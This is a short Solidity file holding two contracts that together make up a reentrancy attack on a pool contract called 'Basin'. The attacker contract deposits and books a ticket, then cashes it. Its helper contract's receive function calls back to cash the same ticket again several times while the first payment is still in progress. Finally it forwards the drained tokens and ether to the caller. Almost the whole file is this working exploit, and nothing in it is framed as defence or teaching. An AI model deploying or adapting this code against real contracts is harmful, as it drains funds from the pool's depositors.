/// Is paid in the place of a holder of tickets, whom it tells of each payment.
contract Other {
    Twins private immutable holder;

    constructor(Twins twins) {
        holder = twins;
    }

    receive() external payable {
        holder.paid();
    }

    function pass(Token token, address payable to) external {
        token.transfer(to, token.balanceOf(address(this)));
        (bool done, ) = to.call{value: address(this).balance}("");
        require(done);
    }
}

/// Has a ticket cashed for another again while that one is being paid.
contract Twins {
    Basin private immutable pool;
    Token private immutable token;
    Other private immutable other;
    uint256 private ticket;
    uint256 private left;

    constructor(Basin target, Token twin) {
        (pool, token) = (target, twin);
        other = new Other(this);
    }

    function enter() external payable {
        token.approve(address(pool), type(uint256).max);
        pool.add{value: msg.value}(type(uint256).max, 0);
        ticket = pool.book(pool.balanceOf(address(this)));
    }

    function cash(uint256 times) external {
        left = times;
        pool.cash(ticket, payable(address(other)));
        other.pass(token, payable(msg.sender));
        token.transfer(msg.sender, token.balanceOf(address(this)));
    }

    function paid() external {
        if (left == 0) return;
        left -= 1;
        pool.cash(ticket, payable(address(other)));
    }
}
